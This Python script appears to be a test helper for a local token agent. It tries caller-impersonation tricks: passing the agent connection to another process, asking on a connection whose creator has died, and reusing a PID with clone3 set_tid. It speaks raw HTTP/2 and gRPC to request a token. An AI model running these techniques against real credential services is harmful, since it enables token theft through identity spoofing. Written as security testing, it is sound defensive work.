#!/usr/bin/env python3
"""What a caller may try, to pass for another one. It speaks HTTP/2 itself, on connections that it did not make.

tricks.py give PATH            connects to the agent and hands the connection to who listens at PATH, then waits
tricks.py take PROFILE PATH    listens at PATH, and asks for a token on the connection that is handed to it
tricks.py outlive PROFILE PATH asks on a connection whose maker is gone: prints the maker's pid, reads PATH, then asks
tricks.py reuse PID            (root) is, with that pid, a process of the unit that this runs in

Asking prints `a token` or `no token`.
"""

import ctypes
import os
import signal
import socket
import struct
import sys
import time

AGENT = "/run/bloom-agent/agent.sock"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4
PATIENCE = 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def ask(connection, profile):
    """GetToken in five frames (RFC 9113, RFC 7541 §6.2.2: literals without Huffman); whether a message comes back."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/bloom.agent.v1.TokenService/GetToken",
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    block = b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers.items()
    )
    message = b"\x0a" + bytes([len(profile)]) + profile.encode()
    connection.sendall(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        + frame(SETTINGS, 0, 0)
        + frame(HEADERS, END_HEADERS, 1, block)
        + frame(DATA, END_STREAM, 1, struct.pack(">BI", 0, len(message)) + message)
    )
    connection.settimeout(PATIENCE)
    answer = connection.makefile("rb")
    while head := answer.read(9):
        length, kind, flags, stream = int.from_bytes(head[:3], "big"), head[3], head[4], head[5:]
        payload = answer.read(length)
        if stream == b"\0\0\0\1":
            if kind == DATA and b"bloom-dev." in payload:
                return True
            if kind == HEADERS and flags & END_STREAM:
                return False
    raise SystemExit("the agent closed the connection without an answer")


def connect(path):
    connection = socket.socket(socket.AF_UNIX)
    end = time.monotonic() + PATIENCE
    while True:
        try:
            connection.connect(path)
            return connection
        except (FileNotFoundError, ConnectionRefusedError):
            if time.monotonic() > end:
                raise
            time.sleep(0.02)


def give(path):
    agent, taker = connect(AGENT), connect(path)
    socket.send_fds(taker, [b"."], [agent.fileno()])
    # As long as the taker asks, the maker of the connection is there.
    taker.recv(1)


def take(profile, path):
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        os.chmod(path, 0o666)
        listener.listen()
        giver, _ = listener.accept()
        os.unlink(path)
    descriptor = socket.recv_fds(giver, 1, 1)[1][0]
    answer(ask(socket.socket(fileno=descriptor), profile))


def outlive(profile, path):
    ours, theirs = socket.socketpair()
    maker = os.fork()
    if maker == 0:
        agent = connect(AGENT)
        socket.send_fds(theirs, [b"."], [agent.fileno()])
        os._exit(0)
    descriptor = socket.recv_fds(ours, 1, 1)[1][0]
    os.waitpid(maker, 0)
    print(maker, flush=True)
    with open(path, "rb") as told:
        told.read()
    answer(ask(socket.socket(fileno=descriptor), profile))


def reuse(pid):
    """clone3(2) with set_tid: what a patient attacker gets by forking until the numbers come round."""
    wanted = (ctypes.c_int * 1)(pid)
    arguments = struct.pack("=11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(wanted), 1, 0)
    libc = ctypes.CDLL(None, use_errno=True)
    clone3 = 435
    child = libc.syscall(clone3, arguments, len(arguments))
    if child < 0:
        raise OSError(ctypes.get_errno(), "clone3")
    signal.pause()


def answer(is_token):
    print("a token" if is_token else "no token", flush=True)


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["give", path]:
            give(path)
        case ["take", profile, path]:
            take(profile, path)
        case ["outlive", profile, path]:
            outlive(profile, path)
        case ["reuse", pid]:
            reuse(int(pid))
        case _:
            sys.exit(__doc__)
